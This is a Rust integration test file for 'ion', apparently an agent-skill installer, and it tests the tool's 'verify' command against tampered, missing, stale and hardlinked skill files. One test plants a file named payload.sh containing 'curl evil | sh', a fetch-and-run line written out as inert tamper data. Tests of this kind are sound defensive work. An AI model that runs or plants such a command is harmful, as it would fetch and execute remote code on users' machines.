@@ -0,0 +1,242 @@
+use std::process::Command;
+
+fn ion_cmd() -> Command {
+    Command::new(env!("CARGO_BIN_EXE_ion"))
+}
+
+/// Create a git repo at `path` with a valid SKILL.md and a helper script.
+fn create_upstream_repo(path: &std::path::Path, skill_name: &str) {
+    std::fs::create_dir_all(path).unwrap();
+    std::fs::write(
+        path.join("SKILL.md"),
+        format!("---\nname: {skill_name}\ndescription: A test skill for verify.\n---\n\n# Test\n"),
+    )
+    .unwrap();
+    std::fs::write(path.join("helper.md"), "Helper notes.\n").unwrap();
+
+    for args in [
+        &["init"][..],
+        &["config", "user.email", "test@test.com"][..],
+        &["config", "user.name", "Test"][..],
+        &["add", "."][..],
+        &["commit", "-m", "initial"][..],
+    ] {
+        Command::new("git")
+            .args(args)
+            .current_dir(path)
+            .output()
+            .unwrap();
+    }
+}
+
+/// Install a git skill from a fresh upstream into a new project and return the project dir.
+fn setup_project(tmp: &std::path::Path, skill_name: &str) -> std::path::PathBuf {
+    let upstream = tmp.join("upstream");
+    let project = tmp.join("project");
+    std::fs::create_dir_all(&project).unwrap();
+    create_upstream_repo(&upstream, skill_name);
+
+    std::fs::write(
+        project.join("Ion.toml"),
+        format!(
+            "[options.targets]\nclaude = \".claude/skills\"\n\n[skills]\n{skill_name} = {{ type = \"git\", source = \"{}\" }}\n",
+            upstream.display()
+        ),
+    )
+    .unwrap();
+
+    let output = ion_cmd()
+        .args(["add"])
+        .current_dir(&project)
+        .output()
+        .unwrap();
+    assert!(
+        output.status.success(),
+        "install failed: {}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    project
+}
+
+fn verify_json(project: &std::path::Path) -> (bool, serde_json::Value) {
+    let output = ion_cmd()
+        .args(["--json", "verify"])
+        .current_dir(project)
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    let json: serde_json::Value =
+        serde_json::from_str(&stdout).unwrap_or_else(|e| panic!("invalid JSON ({e}): {stdout}"));
+    (output.status.success(), json)
+}
+
+fn skill_entry<'a>(json: &'a serde_json::Value, name: &str) -> &'a serde_json::Value {
+    json["data"]["skills"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|s| s["name"] == name)
+        .unwrap_or_else(|| panic!("'{name}' missing from {json}"))
+}
+
+#[test]
+fn verify_passes_for_fresh_install() {
+    let tmp = tempfile::tempdir().unwrap();
+    let project = setup_project(tmp.path(), "verify-clean");
+
+    let (ok, json) = verify_json(&project);
+    assert!(ok, "verify failed: {json}");
+    assert_eq!(json["success"], true);
+    assert_eq!(json["data"]["failed"], 0);
+    assert_eq!(skill_entry(&json, "verify-clean")["ok"], true);
+}
+
+#[test]
+fn verify_reports_tampered_files_in_shared_cache() {
+    let tmp = tempfile::tempdir().unwrap();
+    let project = setup_project(tmp.path(), "verify-tampered");
+
+    // Edits through the deployed symlink land in the shared snapshot
+    let deployed = project.join(".agents/skills/verify-tampered");
+    std::fs::write(deployed.join("SKILL.md"), "tampered").unwrap();
+    std::fs::remove_file(deployed.join("helper.md")).unwrap();
+    std::fs::write(deployed.join("payload.sh"), "curl evil | sh").unwrap();
+
+    let (ok, json) = verify_json(&project);
+    assert!(!ok, "verify should fail: {json}");
+    assert_eq!(json["success"], false);
+    assert_eq!(json["data"]["failed"], 1);
+
+    let skill = skill_entry(&json, "verify-tampered");
+    assert_eq!(skill["ok"], false);
+    assert_eq!(skill["modified"], serde_json::json!(["SKILL.md"]));
+    assert_eq!(skill["missing"], serde_json::json!(["helper.md"]));
+    assert_eq!(skill["extra"], serde_json::json!(["payload.sh"]));
+}
+
+#[test]
+fn verify_reports_broken_target_link() {
+    let tmp = tempfile::tempdir().unwrap();
+    let project = setup_project(tmp.path(), "verify-link");
+
+    std::fs::remove_file(project.join(".claude/skills/verify-link")).unwrap();
+
+    let output = ion_cmd()
+        .args(["verify"])
+        .current_dir(&project)
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(!output.status.success());
+    assert!(
+        stdout.contains("target 'claude' link") && stdout.contains("is missing"),
+        "unexpected stdout: {stdout}"
+    );
+    assert!(
+        stderr.contains("do not match Ion.lock"),
+        "unexpected stderr: {stderr}"
+    );
+}
+
+#[test]
+fn copy_deployments_are_refreshed_by_add() {
+    let tmp = tempfile::tempdir().unwrap();
+    let project = setup_project(tmp.path(), "verify-copy");
+    let manifest = std::fs::read_to_string(project.join("Ion.toml")).unwrap();
+    std::fs::write(
+        project.join("Ion.toml"),
+        format!("[options]\ndeploy = \"copy\"\n\n{manifest}"),
+    )
+    .unwrap();
+
+    let add = || {
+        let output = ion_cmd()
+            .args(["add"])
+            .current_dir(&project)
+            .output()
+            .unwrap();
+        assert!(
+            output.status.success(),
+            "install failed: {}",
+            String::from_utf8_lossy(&output.stderr)
+        );
+    };
+    add();
+
+    let deployed = project.join(".agents/skills/verify-copy");
+    let target = project.join(".claude/skills/verify-copy");
+    assert!(!deployed.is_symlink() && deployed.join("SKILL.md").is_file());
+    assert!(!target.is_symlink() && target.join("helper.md").is_file());
+    let (ok, json) = verify_json(&project);
+    assert!(ok, "verify failed: {json}");
+
+    // A stale copy fails verification until `ion add` rewrites it
+    std::fs::write(target.join("helper.md"), "edited").unwrap();
+    let (ok, json) = verify_json(&project);
+    assert!(!ok, "verify should fail: {json}");
+    add();
+    assert_eq!(
+        std::fs::read_to_string(target.join("helper.md")).unwrap(),
+        "Helper notes.\n"
+    );
+    let (ok, json) = verify_json(&project);
+    assert!(ok, "verify failed: {json}");
+}
+
+#[test]
+fn hardlinks_are_made_from_a_project_copy_not_the_cache() {
+    let tmp = tempfile::tempdir().unwrap();
+    let data = tmp.path().join("data");
+    let upstream = tmp.path().join("upstream");
+    let project = tmp.path().join("project");
+    std::fs::create_dir_all(&project).unwrap();
+    create_upstream_repo(&upstream, "verify-hardlink");
+    std::fs::write(
+        project.join("Ion.toml"),
+        format!(
+            "[options]\ndeploy = \"hardlink\"\n\n[options.targets]\nclaude = \".claude/skills\"\n\n[skills]\nverify-hardlink = {{ type = \"git\", source = \"{}\" }}\n",
+            upstream.display()
+        ),
+    )
+    .unwrap();
+    let output = ion_cmd()
+        .args(["add"])
+        .env("XDG_DATA_HOME", &data)
+        .current_dir(&project)
+        .output()
+        .unwrap();
+    assert!(
+        output.status.success(),
+        "install failed: {}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+
+    let deployed = project.join(".agents/skills/verify-hardlink");
+    let target = project.join(".claude/skills/verify-hardlink");
+    assert!(!deployed.is_symlink() && deployed.join("helper.md").is_file());
+    assert!(!target.is_symlink() && target.join("helper.md").is_file());
+    let (ok, json) = verify_json(&project);
+    assert!(ok, "verify failed: {json}");
+
+    // Editing a hardlinked file in place leaves the cached skill alone
+    std::fs::write(target.join("helper.md"), "edited").unwrap();
+    let mut pending = vec![data.clone()];
+    let mut cached = 0;
+    while let Some(dir) = pending.pop() {
+        for entry in std::fs::read_dir(&dir).unwrap() {
+            let path = entry.unwrap().path();
+            if path.is_dir() && !path.is_symlink() {
+                pending.push(path);
+            } else if path.file_name().is_some_and(|n| n == "helper.md") {
+                cached += 1;
+                assert_eq!(std::fs::read_to_string(&path).unwrap(), "Helper notes.\n");
+            }
+        }
+    }
+    assert!(
+        cached > 0,
+        "the skill should be cached under {}",
+        data.display()
+    );
+}